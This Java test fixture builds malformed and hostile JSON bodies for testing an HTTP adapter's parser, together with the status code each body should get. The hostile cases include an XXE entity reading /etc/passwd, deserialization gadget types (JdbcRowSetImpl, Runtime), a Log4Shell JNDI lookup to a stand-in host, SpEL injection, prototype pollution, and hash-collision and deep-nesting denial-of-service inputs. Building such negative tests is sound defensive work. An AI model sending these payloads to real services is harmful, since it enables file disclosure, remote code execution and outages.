package dev.portolan.adapter.http;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * Bodies for a function that takes {@link Ordering.Order}: one character a byte, and the status.
 */
final class BadDocuments {
  private static final String GOOD = "{\"id\":\"o\",\"amount\":1}";

  private BadDocuments() {}

  /** What is not the JSON the function takes. */
  static List<BadRequest> refused() {
    List<BadRequest> all = new ArrayList<>();
    for (String body :
        List.of(
            "",
            " ",
            "{",
            "}",
            GOOD.substring(0, 12),
            GOOD + "x",
            GOOD + GOOD,
            GOOD + "\u0000",
            "\u00ef\u00bb\u00bf" + GOOD,
            "[]",
            "[" + GOOD + "]",
            "1",
            "true",
            "\"x\"",
            "nul",
            "{\"id\":1}",
            "{\"id\":[]}",
            "{\"amount\":\"1\"}",
            "{\"amount\":1.5}",
            "{\"amount\":null}",
            "{\"amount\":2147483648}",
            "{\"amount\":1e400}",
            "{\"amount\":1e99999999}",
            "{\"amount\":NaN}",
            "{\"amount\":Infinity}",
            "{\"amount\":01}",
            "{\"amount\":+1}",
            "{\"amount\":0x1}",
            "{\"amount\":.5}",
            "{\"amount\":1.}",
            "{\"amount\":-}",
            "{\"amount\":" + "9".repeat(1001) + "}",
            "{'id':'o'}",
            "{id:\"o\"}",
            "{\"id\":\"o\",}",
            "{\"id\" \"o\"}",
            "{\"id\":\"o\" \"amount\":1}",
            "/**/" + GOOD,
            "// x\n" + GOOD,
            "{\"id\":\"\\ud800\"}",
            "{\"id\":\"\\udc00\\ud800\"}",
            "{\"id\":\"\\x\"}",
            "{\"id\":\"\\u00g0\"}",
            "{\"id\":\"a\nb\"}",
            "{\"id\":\"a\u0001b\"}",
            "{\"id\":\"o\",\"id\":\"p\"}",
            "{\"x\":1,\"x\":2}",
            "{\"i\\u0064\":\"o\",\"id\":\"p\"}",
            "{\"x\":" + "[".repeat(100_000) + "}",
            "{\"x\":" + "[".repeat(1000) + "]".repeat(1000) + "}",
            "{\"x\":" + "{\"x\":".repeat(1000) + "1" + "}".repeat(1000) + "}",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
            "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
            "%7B%22id%22%3A%22o%22%7D",
            "id=o&amount=1")) {
      all.add(post(body, 400));
    }
    for (String bytes :
        List.of("\u00ff", "\u00c0\u0080", "\u00ed\u00a0\u0080", "\u00e2\u0082", "\u00f5\u0080")) {
      all.add(post("{\"id\":\"" + bytes + "\"}", 400));
    }
    all.add(post("\u0000{\u0000}", 400));
    return all;
  }

  /** What the function is handed without what it did not ask for. */
  static List<BadRequest> taken() {
    List<BadRequest> all = new ArrayList<>();
    for (String member :
        List.of(
            "\"@class\":\"java.net.URL\"",
            "\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"",
            "\"class\":\"java.lang.Runtime\"",
            "\"class\":{\"classLoader\":{\"resources\":null}}",
            "\"__proto__\":{\"amount\":2}",
            "\"ID\":\"p\"",
            "\"function\":\"other\"",
            "\"$ref\":\"#\"",
            "\"x\":\"${jndi:ldap://evil.example/a}\"",
            "\"x\":\"#{T(java.lang.Runtime)}\"",
            "\"x\":\"" + "a".repeat(1 << 20) + "\"")) {
      all.add(post(GOOD.replace("{", "{" + member + ","), 200));
    }
    all.add(post(GOOD.replace("{", "{" + manyKeys() + ","), 200));
    all.add(post(GOOD.replace("{", "{" + collidingKeys() + ","), 200));
    return all;
  }

  private static String manyKeys() {
    StringBuilder members = new StringBuilder("\"k\":0");
    for (int i = 0; i < 50_000; i++) {
      members.append(",\"k").append(i).append("\":0");
    }
    return members.toString();
  }

  /** {@code "Aa"} and {@code "BB"} have one hash, and so has each row of them. */
  private static String collidingKeys() {
    StringBuilder members = new StringBuilder("\"k\":0");
    for (int i = 0; i < 1 << 14; i++) {
      members.append(",\"");
      for (int bit = 0; bit < 14; bit++) {
        members.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      members.append("\":0");
    }
    return members.toString();
  }

  private static BadRequest post(String body, int status) {
    String head =
        String.format(
            Locale.ROOT,
            "POST / HTTP/1.1\r\n%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
            BadRequest.HOST,
            body.length());
    String name =
        "body of " + body.length() + ": " + body.substring(0, Math.min(40, body.length()));
    return new BadRequest(name, head + body, status);
  }
}
